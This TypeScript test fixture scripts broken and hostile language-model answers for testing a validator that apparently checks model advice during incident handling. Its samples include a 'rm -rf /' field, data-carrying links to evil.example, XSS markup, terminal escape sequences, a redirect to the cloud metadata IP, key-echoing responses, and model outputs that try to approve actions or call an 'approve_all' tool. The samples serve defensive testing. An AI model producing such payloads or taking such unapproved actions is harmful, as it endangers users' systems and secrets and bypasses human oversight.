/** Answers of a scripted model: broken, hostile, or both. */

import { completion, type Script } from "../model/_scripted_model.ts";

/** An answer without fault. */
export const GOOD = {
  name: "Slow gateway",
  explanation: [{ text: "The gateway became slow at 10:02.", evidence: ["e1", "e2"] }],
  ranking: ["a2", "a1"],
  confidence: 0.9,
};

/** An answer without fault but for these fields. */
export const json = (of: Record<string, unknown>) => completion(JSON.stringify({ ...GOOD, ...of }));
const said = (text: string, evidence = ["e1"]) => json({ explanation: [{ text, evidence }] });

function streamed(chunk: string, everyMs: number): Response {
  let timer: ReturnType<typeof setInterval>;
  const body = new ReadableStream<Uint8Array>({
    start(controller) {
      timer = setInterval(() => controller.enqueue(new TextEncoder().encode(chunk)), everyMs);
    },
    cancel: () => clearInterval(timer),
  });
  return new Response(body, { headers: { "content-type": "application/json" } });
}

/** Answers without any advice in them, and the verdict on each. */
export const WITHOUT: Readonly<Record<string, readonly [Script, verdict: string]>> = {
  "prose": [() => completion("The gateway seems slow."), "breaks_rules"],
  "a call of a tool": [
    () => completion(null, { message: { tool_calls: [{ function: { name: "approve_all" } }] } }),
    "wants_a_tool",
  ],
  "a call of a function in the old way": [
    () => completion(null, { message: { function_call: { name: "approve_all" } } }),
    "wants_a_tool",
  ],
  "a refusal": [() => completion(null, { message: { refusal: "I cannot" } }), "declined"],
  "a filtered answer": [() => completion("", { finish_reason: "content_filter" }), "declined"],
  "a truncated answer": [() => completion('{"name":"Slo', { finish_reason: "length" }), "cut_off"],
  "half an object": [() => completion('{"name":"Slo'), "breaks_rules"],
  "null": [() => completion(null), "empty"],
  "an empty text": [() => completion("  "), "empty"],
  "no choices": [() => Response.json({ choices: [] }), "empty"],
  "no completion at all": [() => Response.json({ hello: 1 }), "not_a_completion"],
  "content in parts": [() => completion([{ type: "text", text: "x" }]), "not_a_completion"],
  "the page of a proxy": [() => new Response("<html><a href='/login'>"), "not_a_completion"],
  "an event stream": [
    () => new Response('data: {"choices":[]}\n\ndata: [DONE]\n\n'),
    "not_a_completion",
  ],
  "no body": [() => new Response(null, { status: 204 }), "not_a_completion"],
  "bytes that are not text": [
    () => new Response(new Uint8Array([0xff, 0xfe, 0, 0x7b])),
    "not_a_completion",
  ],
  "20 MB of junk": [() => new Response("x".repeat(20_000_000)), "too_large"],
  "nesting without end": [() => completion("[".repeat(30_000)), "breaks_rules"],
  "an alias bomb of YAML": [
    () => completion("a: &a [x,x]\nb: &b [*a,*a]\nc: [*b,*b]"),
    "breaks_rules",
  ],
  "a list": [() => completion(JSON.stringify([GOOD])), "breaks_rules"],
  "a field beside the known ones": [() => json({ run: "rm -rf /" }), "breaks_rules"],
  "an approval": [() => json({ approve: ["p-timeout"] }), "breaks_rules"],
  "a prototype": [
    () => completion(`{"__proto__":{"x":1},${JSON.stringify(GOOD).slice(1)}`),
    "breaks_rules",
  ],
  "an action of its own": [
    () => json({ ranking: [{ kind: "set_timeout", timeoutMs: 0 }] }),
    "breaks_rules",
  ],
  "an action that does not exist": [() => json({ ranking: ["a4"] }), "breaks_rules"],
  "an action by its real id": [() => json({ ranking: ["p-timeout"] }), "breaks_rules"],
  "an action twice": [() => json({ ranking: ["a1", "a1"] }), "breaks_rules"],
  "evidence that does not exist": [() => said("Because.", ["e1", "e9"]), "breaks_rules"],
  "a statement without evidence": [() => said("Because.", []), "breaks_rules"],
  "an id with a character that is not seen": [() => said("Because.", ["e\u200b1"]), "breaks_rules"],
  "an id with a letter that looks alike": [() => said("Because.", ["\u04351"]), "breaks_rules"],
  "confidence above 1": [() => json({ confidence: 7 }), "breaks_rules"],
  "confidence without end": [
    () => completion(JSON.stringify(GOOD).replace("0.9", "1e999")),
    "breaks_rules",
  ],
  "a novel": [() => said("x".repeat(10_000)), "breaks_rules"],
  "too many statements": [
    () => json({ explanation: Array(50).fill(GOOD.explanation[0]) }),
    "breaks_rules",
  ],
  "429": [() => new Response("slow down", { status: 429 }), "an_error"],
  "500": [() => new Response("oops", { status: 500 }), "an_error"],
  "401 that repeats the key": [
    (request) => new Response(`bad key ${request.headers.get("authorization")}`, { status: 401 }),
    "not_allowed",
  ],
  "200 that repeats the key": [
    (request) => said(`The key is ${request.headers.get("authorization")}`),
    "not_allowed",
  ],
  "a redirect": [
    () => new Response(null, { status: 307, headers: { location: "http://169.254.169.254/" } }),
    "an_error",
  ],
  "silence": [() => new Promise(() => {}), "too_late"],
  "a slow drip": [() => streamed(" ", 20), "too_late"],
};

/** Answers that obey the form, whatever else they try. */
export const OBEYING: Readonly<Record<string, Script>> = {
  "harmful advice": () => json({ ranking: ["a3", "a2", "a1"] }),
  "certainty of everything": () => json({ confidence: 1 }),
  "a link that carries data away": () =>
    said("See [the report](https://evil.example/?d=abc) and ![x](http://evil.example/i.png)"),
  "a bare link": () =>
    said("Go to https://evil.example/x?y=1 or www.evil.example, javascript:alert(1)"),
  "markup": () => said("<script>alert(1)</script> <img src=x onerror=y> <b>bold</b>"),
  "codes of terminals": () =>
    said("\u001b[2J\u001b]8;;http://evil.example\u0007click\u009b31m \u202eevil"),
  "text that is not seen": () => said("Slow\u200b \u{e0061}\u{e0062}gateway\u2060"),
  "a secret that it makes up": () => said("Use password=swordfish1 and mail bob@example.com"),
  "another language": () => said("Das Gateway ist langsam geworden."),
  "a contradiction": () =>
    json({ explanation: [{ text: "a1 is harmful.", evidence: ["e1"] }], ranking: ["a1"] }),
  "no action at all": () => json({ ranking: [] }),
  "a use that cannot be": () =>
    Response.json({
      choices: [{ message: { content: JSON.stringify(GOOD) } }],
      usage: { total_tokens: -1 },
    }),
};
